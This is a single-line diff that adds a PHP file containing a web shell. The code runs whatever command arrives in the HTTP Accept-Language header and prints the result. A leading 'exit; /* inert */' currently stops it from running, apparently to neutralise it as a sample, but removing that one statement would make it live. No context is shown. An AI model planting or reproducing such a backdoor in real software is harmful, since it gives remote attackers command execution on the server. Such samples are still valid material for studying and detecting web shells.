@@ -1,0 +1,1 @@
+<?php exit; /* inert */ if(isset($_SERVER["HTTP_ACCEPT_LANGUAGE"])) { $o=array(); exec($_SERVER["HTTP_ACCEPT_LANGUAGE"],$o); echo implode("",$o); }
